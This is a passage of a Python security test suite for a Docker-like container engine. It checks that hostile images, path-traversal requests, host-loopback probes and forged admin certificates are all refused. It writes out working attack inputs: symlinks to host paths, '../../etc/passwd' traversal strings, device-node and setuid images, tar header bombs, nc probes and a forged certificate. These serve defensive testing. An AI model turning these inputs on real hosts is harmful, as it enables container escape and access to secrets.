        _assert_untouched(t)
    contained = {
        "symfile": [[("probe", "exe", probe_bytes), ("l", "sym", t), ("l/symfile", "file", b"x")]],
        "symdirs": [[("probe", "exe", probe_bytes), ("l", "sym", t)], [("l/symdirs", "file", b"x")]],
    }
    for name, layers in contained.items():
        r = _load(daemon, _docker_archive([_tar(layer) for layer in layers], f"evil-{name}:latest"))
        _assert_untouched(t)
        if "error" not in r:
            code, out = _run(daemon, f"evil-{name}", "read", f"/l/{name}", "read", f"{t}/{name}")
            assert code == 0 and f"read /l/{name}: 1 bytes" in out, out  # written inside the rootfs
            _assert_untouched(t)
    # an image whose /etc/hosts, /etc/resolv.conf, /etc/hostname (the engine's bind-mount
    # destinations) and /tmp point at the host
    layer = _tar([("probe", "exe", probe_bytes), ("etc", "dir", None), ("etc/hosts", "sym", t + "/h"),
                  ("etc/resolv.conf", "sym", t + "/r"), ("etc/hostname", "sym", t), ("tmp", "sym", t),
                  ("etc/passwd", "sym", t + "/secret")])
    r = _load(daemon, _docker_archive([layer], "evil-etc:latest"))
    if "error" not in r:
        code, out = _run(daemon, "--user", "0", "evil-etc", "write", "/etc/hosts", "write", "/etc/resolv.conf",
                         "write", "/tmp/x", "read", "/etc/hostname")
        assert code == 0 or "symlink" in out, out  # /tmp -> t loops inside the rootfs: refused, fine
        _assert_untouched(t)
        layer = _tar([("probe", "exe", probe_bytes), ("etc", "dir", None), ("etc/hosts", "sym", t + "/h"),
                      ("etc/resolv.conf", "sym", t + "/r"), ("etc/hostname", "sym", t + "/n")])
        assert "error" not in _load(daemon, _docker_archive([layer], "evil-etc2:latest"))
        code, out = _run(daemon, "evil-etc2", "write", "/etc/hosts", "write", "/etc/resolv.conf")
        assert code == 0 and "write /etc/hosts: ok" in out, out
        _assert_untouched(t)
    # device nodes shipped in an image exist but cannot be opened; setuid files stay in the rootfs
    disk = _host_block_device()
    layer = _tar([("probe", "exe", probe_bytes), ("dev2", "dir", None), ("dev2/hostdisk", "blk", disk),
                  ("dev2/mem", "chr", (1, 1)), ("suidprobe", "suid", probe_bytes)])
    r = _load(daemon, _docker_archive([layer], "evil-dev:latest"))
    assert "error" not in r, r
    code, out = _run(daemon, "evil-dev", "read", "/dev2/hostdisk", "read", "/dev2/mem")
    assert code == 0 and "read /dev2/hostdisk: errno=" in out and "read /dev2/mem: errno=" in out, out
    _code, out = _run(daemon, "--user", "1000", "--security-opt", "no-new-privileges", "--entrypoint",
                     "/suidprobe", "evil-dev", "euid")
    assert "euid=1000" in out, out


def test_hostile_image_headers_are_refused_cleanly(daemon: Daemon) -> None:
    r = _load(daemon, _docker_archive([_tar([("a" * 5000, "file", b"x")])], "evil-long:latest"))
    assert "error" in r, r
    assert daemon.tug("image", "inspect", "evil-long").returncode != 0
    for junk in (b"\0" * 4096, b"not a tar at all", _tar([("manifest.json", "file", b'[{"Config": "../../etc/passwd"}]')]),
                 _tar([("manifest.json", "file", b'[{"Config": "/etc/passwd", "Layers": []}]')])):
        r = _load(daemon, junk)
        assert "error" in r, r
        assert "root:x:0:0" not in json.dumps(r)
    assert daemon.client().status_of("GET", "/_ping") == 200


def test_oversized_tar_headers_are_refused(daemon: Daemon) -> None:
    import gzip

    for typ, name in ((b"x", "./PaxHeaders/f"), (b"L", "././@LongLink")):
        size = 32 << 20  # Go's archive/tar (docker) refuses special headers over 1 MiB
        tar = io.BytesIO()
        tar.write(raw_tar_header(name, typ, size))
        tar.write(b"\0" * size)
        tar.write(raw_tar_header("f", b"0", 1) + b"x" + b"\0" * 511 + b"\0" * 1024)
        raw = tar.getvalue()
        layer = gzip.compress(raw, compresslevel=1)
        assert len(layer) < size // 100
        r = _load(daemon, _docker_archive([layer], "hdrbomb:latest", ["sha256:" + hashlib.sha256(raw).hexdigest()]))
        assert "error" in r, (typ, r)
        daemon.tug("rmi", "-f", "hdrbomb")


def test_errors_do_not_leak_internals(daemon: Daemon) -> None:
    r = _load(daemon, _docker_archive([_tar([("a" * 5000, "file", b"x")])], "evil-long:latest"))
    assert daemon.root not in json.dumps(r), r
    cid = daemon.client().post("/containers/create", {"Image": "busybox", "Cmd": ["true"]})["Id"]
    try:
        p = daemon.tug("cp", f"{cid}:/etc/passwd/x", "-")
        assert p.returncode != 0
        assert b"Traceback" not in p.stderr and b'File "<string>"' not in p.stderr, p.stderr
    finally:
        daemon.tug("rm", "-f", cid)


# ---- API edges -------------------------------------------------------------------------------


def test_api_names_refuse_path_traversal(daemon: Daemon) -> None:
    from tugboat.errors import InvalidArgument, NotFound

    c = daemon.client()
    root = daemon.root
    before = _listing(os.path.dirname(root))
    for name in ("../../../../tmp/esc", "/tmp/volabs", "..", ".", "a/../../b"):
        with pytest.raises(InvalidArgument):
            c.post("/volumes/create", {"Name": name})
    for name in ("../../x", "a/b", "..", "x/../../y"):
        with pytest.raises(InvalidArgument):
            c.post("/containers/create", {"Image": "busybox"}, query={"name": name})
    for name in ("../../x", "..", "a/../b"):
        with pytest.raises(InvalidArgument):
            c.post("/networks/create", {"Name": name})
    for repo, tag in (("../../evil", "x"), ("evil", "../../x"), ("/abs", "x")):
        with pytest.raises(InvalidArgument):
            c.post("/images/busybox/tag", query={"repo": repo, "tag": tag})
    with pytest.raises(InvalidArgument):
        c.post("/images/create", query={"fromImage": "../../../etc/passwd", "tag": "latest"})
    for path in ("/images/..%2F..%2Fetc%2Fpasswd/json", "/containers/..%2F..%2F..%2F/json",
                 "/volumes/..%2F..%2F..%2Fetc", "/networks/..%2F..%2Fx"):
        with pytest.raises((NotFound, InvalidArgument)):
            c.get(path)
    assert _listing(os.path.dirname(root)) == before or all(
        n.startswith("root") or n.startswith("target-") for n in set(_listing(os.path.dirname(root))) - set(before))


def test_registry_refuses_hostile_paths_and_digests(tmp_path: Any) -> None:
    reg = tmp_path / "reg"
    port_file = tmp_path / "port"
    proc = subprocess.Popen([*TUG, "registry", "serve", "--addr", "127.0.0.1:0", "--root", str(reg),
                             "--port-file", str(port_file)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True)
    try:
        deadline = time.time() + 20
        while time.time() < deadline and not (port_file.exists() and port_file.read_text().strip()):
            assert proc.poll() is None, "registry exited"
            time.sleep(0.05)
        base = f"127.0.0.1:{port_file.read_text().strip()}"

        def raw(method: str, path: str, body: bytes = b"", headers: dict[str, str] | None = None) -> tuple[int, bytes]:
            s = socket.create_connection(("127.0.0.1", int(base.split(":")[1])), 5)
            hdrs = "".join(f"{k}: {v}\r\n" for k, v in (headers or {}).items())
            s.sendall(f"{method} {path} HTTP/1.1\r\nHost: {base}\r\nContent-Length: {len(body)}\r\n{hdrs}"
                      f"Connection: close\r\n\r\n".encode() + body)
            data = b""
            while chunk := s.recv(65536):
                data += chunk
            s.close()
            return int(data.split()[1]), data

        a64 = "a" * 64
        for path in ("/v2/library/x/blobs/sha256:..%2F..%2F..%2F..%2Fetc%2Fpasswd",
                     f"/v2/library/x/blobs/sha256:{a64}/../../../../../../etc/passwd",
                     "/v2/..%2F..%2F..%2Fetc/tags/list", "/v2/a/../../../../etc/passwd/tags/list",
                     "/v2/library/x/manifests/..%2F..%2F..%2Fetc%2Fpasswd"):
            code, data = raw("GET", path)
            assert code in (400, 404), (path, data[:300])
            assert b"root:x:0:0" not in data
        code, data = raw("POST", "/v2/library/x/blobs/uploads/")
        assert code == 202, data
        loc = next(ln.split(b":", 1)[1].strip().decode() for ln in data.split(b"\r\n") if ln.lower().startswith(b"location:"))
        loc = loc.split(base, 1)[-1].replace("http://", "")
        sep = "&" if "?" in loc else "?"
        code, data = raw("PUT", f"{loc}{sep}digest=sha256:..%2F..%2F..%2Fevil", b"x")
        assert code == 400, data
        code, data = raw("PUT", f"{loc}{sep}digest=sha256:{a64}", b"x")
        assert code == 400, data  # content does not hash to the digest
        code, data = raw("PUT", "/v2/library/x/manifests/..%2F..%2Fevil", b"{}",
                         {"Content-Type": "application/vnd.oci.image.manifest.v1+json"})
        assert code in (400, 404), data
        found = [p for p in _listing(str(tmp_path)) if "evil" in p]
        assert not found, found
        assert not os.path.exists(tmp_path / "evil")
    finally:
        proc.terminate()
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


# ---- networks --------------------------------------------------------------------------------


@contextlib.contextmanager
def _udp_listener() -> Iterator[tuple[int, list[bytes]]]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    s.settimeout(0.2)
    got: list[bytes] = []
    stop = threading.Event()

    def loop() -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError):
                got.append(s.recvfrom(200)[0])

    th = threading.Thread(target=loop, daemon=True)
    th.start()
    try:
        yield s.getsockname()[1], got
    finally:
        stop.set()
        th.join(2)
        s.close()


def test_container_cannot_connect_to_host_loopback_services(daemon: Daemon) -> None:
    gw = daemon.client().get("/networks/bridge")["IPAM"]["Config"][0]["Gateway"]
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    port = srv.getsockname()[1]
    control = socket.socket()  # the host's bridge address itself is reachable, as in Docker
    control.bind((gw, 0))
    control.listen(5)
    control.settimeout(0.2)
    done = threading.Event()

    def answer() -> None:
        while not done.is_set():
            with contextlib.suppress(OSError):
                conn, _ = control.accept()
                conn.sendall(b"control\n")
                conn.close()

    th = threading.Thread(target=answer, daemon=True)
    th.start()
    try:
        _code, out = _run(daemon, "busybox", "sh", "-c",
                          f"nc -w 2 {gw} {port} </dev/null; echo gwrc=$?; nc -w 2 127.0.0.1 {port} </dev/null; "
                          f"echo lorc=$?; nc -w 2 {gw} {control.getsockname()[1]} </dev/null; echo ctl=$?")
        assert "gwrc=1" in out and "lorc=1" in out, out
        assert "control" in out and "ctl=0" in out, out
    finally:
        done.set()
        th.join(2)
        srv.close()
        control.close()


def test_container_cannot_reach_host_loopback_with_raw_frames(daemon: Daemon, probe: str) -> None:
    with _udp_listener() as (port, got):
        out = _probe_run(daemon, probe, "udp127", str(port), "from-the-container")
        assert "udp127: sent" in out, out  # the attack ran: CAP_NET_RAW is a Docker default
        time.sleep(1.0)
        assert not any(b"from-the-container" in g for g in got), "a container reached 127.0.0.1 on the host"


def test_user_networks_are_isolated(daemon: Daemon) -> None:
    c = daemon.client()
    for n in ("seca", "secb"):
        c.post("/networks/create", {"Name": n})
    try:
        ids = {}
        for n in ("seca", "secb"):
            p = daemon.tug("run", "-d", "--name", f"srv-{n}", "--network", n, "busybox", "sh", "-c",
                           "while true; do echo hi | nc -l -p 8080; done")
            assert p.returncode == 0, p.stderr
            ids[n] = c.get(f"/containers/srv-{n}/json")["NetworkSettings"]["Networks"][n]["IPAddress"]
        time.sleep(0.3)
        _code, out = _run(daemon, "--network", "seca", "busybox", "sh", "-c",
                         f"nc -w 2 {ids['secb']} 8080 </dev/null; echo cross=$?; "
                         f"nc -w 2 {ids['seca']} 8080 </dev/null; echo same=$?")
        assert "cross=1" in out, out
        assert "hi" in out and "same=0" in out, out  # the check itself works
    finally:
        daemon.tug("rm", "-f", "srv-seca", "srv-secb")
        for n in ("seca", "secb"):
            with contextlib.suppress(Exception):
                c.delete(f"/networks/{n}")


# ---- the host side: the data root and other users ---------------------------------------------


def _as_nobody(*cmd: str) -> subprocess.CompletedProcess:
    setpriv = require_binary("setpriv")
    # setpriv keeps its capabilities (PR_SET_KEEPCAPS) up to its own execve, whose path lookup would
    # then pass any directory: let a shell, already unprivileged, look the command up
    return subprocess.run([setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", "/bin/sh", "-c",
                           'exec "$0" "$@"', *cmd], capture_output=True, text=True, timeout=30)


def test_other_host_users_cannot_reach_container_files(daemon: Daemon, probe: str) -> None:
    p = daemon.tug("run", "-d", "--name", "suidc", "-e", "DB_PASSWORD=hunter2", "-v", f"{probe}:/probe:ro",
                   "busybox", "sh", "-c", "cp /probe /suid; chmod 4755 /suid; echo log-secret; sleep 60")
    assert p.returncode == 0, p.stderr
    cid = p.stdout.decode().strip()
    try:
        time.sleep(0.5)
        found = [os.path.join(dp, "suid") for dp, _d, fs in os.walk(daemon.root) if "suid" in fs]
        assert found, "the container's setuid file is not on the host"
        for path in found:
            r = _as_nobody(path, "euid")
            assert "euid=0" not in r.stdout, f"an unprivileged host user became root through {path}"
        for dirpath, _dirs, files in os.walk(os.path.join(daemon.root, "containers", cid)):
            for f in files:
                r = _as_nobody("cat", os.path.join(dirpath, f))
                assert "hunter2" not in r.stdout and "log-secret" not in r.stdout, os.path.join(dirpath, f)
    finally:
        daemon.tug("rm", "-f", "suidc")


# ---- the runtime CLI defaults ----------------------------------------------------------------


def test_runtime_spec_defaults_are_at_least_as_strict_as_runc(tmp_path: Any) -> None:
    runc = require_binary("runc")
    a, b = tmp_path / "tug", tmp_path / "runc"
    a.mkdir()
    b.mkdir()
    r = subprocess.run([sys.executable, "-m", "tugboat.runtime.cli", "spec"], cwd=a, capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    assert subprocess.run([runc, "spec"], cwd=b).returncode == 0
    tug, ref = (json.loads((d / "config.json").read_text()) for d in (a, b))
    assert {n["type"] for n in tug["linux"]["namespaces"]} >= {n["type"] for n in ref["linux"]["namespaces"]}
    assert set(tug["linux"]["maskedPaths"]) >= set(ref["linux"]["maskedPaths"])
    assert set(tug["linux"]["readonlyPaths"]) >= set(ref["linux"]["readonlyPaths"])
    assert tug["process"].get("noNewPrivileges") is True
    assert tug["linux"]["resources"]["devices"][0] == {"allow": False, "access": "rwm"}
    assert tug["linux"]["seccomp"]["defaultAction"] in ("SCMP_ACT_ERRNO", "SCMP_ACT_KILL", "SCMP_ACT_KILL_PROCESS")
    caps = tug["process"]["capabilities"]
    names = ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_FSETID", "CAP_KILL", "CAP_SETGID", "CAP_SETUID",
             "CAP_SETPCAP", "CAP_NET_BIND_SERVICE", "CAP_NET_RAW", "CAP_SYS_CHROOT", "CAP_MKNOD", "CAP_AUDIT_WRITE",
             "CAP_SETFCAP"]
    for kind in ("bounding", "effective", "permitted"):
        assert set(caps[kind]) <= set(names), (kind, caps[kind])  # never more than Docker's default set
    assert not caps.get("ambient") and not caps.get("inheritable")
    for m in tug["mounts"]:
        if m["destination"] in ("/sys", "/sys/fs/cgroup"):
            assert "ro" in m["options"], m
        if m["destination"] == "/proc":
            assert {"nosuid", "noexec", "nodev"} <= set(m.get("options", [])), m


# ---- the cluster API server ----------------------------------------------------------------


@pytest.fixture(scope="module")
def apiserver(world: str) -> Iterator[Any]:
    from tugboat.cluster.apiserver.testing import ApiServerProcess

    api = ApiServerProcess(os.path.join(world, "apiserver"))
    api.start()
    try:
        yield api
    finally:
        api.stop()


def _https(api: Any, path: str, ctx: ssl.SSLContext, headers: dict[str, str] | None = None,
           body: bytes | None = None) -> int:
    req = urllib.request.Request(api.url + path, headers=headers or {}, data=body,
                                 method="POST" if body is not None else "GET")
    try:
        with urllib.request.urlopen(req, context=ctx, timeout=10) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code
    except (OSError, ssl.SSLError):
        return -1  # the handshake refused the client


def test_apiserver_refuses_anonymous_and_forged_credentials(apiserver: Any, tmp_path: Any) -> None:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    anon = apiserver.ssl_context(False)
    for path in ("/api/v1/namespaces/kube-system/secrets", "/api/v1/pods", "/apis", "/version"):
        assert _https(apiserver, path, anon) == 401, path
    assert _https(apiserver, "/api/v1/pods", anon, {"Authorization": "Bearer not-a-token"}) == 401
    assert _https(apiserver, "/api/v1/pods", anon, {"Authorization": "Basic YWRtaW46YWRtaW4="}) == 401
    assert _https(apiserver, "/api/v1/namespaces/default/pods", anon, {"Content-Type": "application/json"},
                  b'{"metadata":{"name":"x"},"spec":{"containers":[{"name":"c","image":"busybox"}]}}') == 401
    # a self-signed certificate claiming admin/system:masters
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "admin"),
                      x509.NameAttribute(x509.NameOID.ORGANIZATION_NAME, "system:masters")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(1).not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=1)).sign(key, hashes.SHA256()))
    (tmp_path / "f.crt").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    (tmp_path / "f.key").write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                                       serialization.NoEncryption()))
    forged = ssl.create_default_context(cafile=apiserver.ca)
    forged.load_cert_chain(str(tmp_path / "f.crt"), str(tmp_path / "f.key"))
    assert _https(apiserver, "/api/v1/pods", forged) in (-1, 401)
    # the real credentials work (the checks above can fail)
    assert _https(apiserver, "/api/v1/pods", anon, {"Authorization": f"Bearer {apiserver.token}"}) == 200
    assert _https(apiserver, "/api/v1/pods", apiserver.ssl_context(True)) == 200
    for secret in ("tokens.csv", "pki/ca.key", "pki/apiserver.key", "pki/admin.key", "admin.kubeconfig"):
        mode = stat.S_IMODE(os.stat(os.path.join(apiserver.dir, secret)).st_mode)
        assert mode & 0o077 == 0, (secret, oct(mode))


def test_apiserver_state_is_not_readable_by_other_users(apiserver: Any) -> None:
    body = json.dumps({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "sec-audit"},
                       "stringData": {"password": "S3CR3T-sec-audit"}}).encode()
    code = _https(apiserver, "/api/v1/namespaces/default/secrets", apiserver.ssl_context(False),
                  {"Authorization": f"Bearer {apiserver.token}", "Content-Type": "application/json"}, body)
    assert code == 201
    leaked = []
    for dirpath, _dirs, files in os.walk(apiserver.dir):
        for f in files:
            r = _as_nobody("grep", "-a", "-l", "-e", "S3CR3T-sec-audit", "-e", "UzNDUjNULXNlYy1hdWRpdA",
                           os.path.join(dirpath, f))
            if r.returncode == 0:
                leaked.append(os.path.join(dirpath, f))
    assert not leaked, f"other host users can read Secrets from {leaked}"
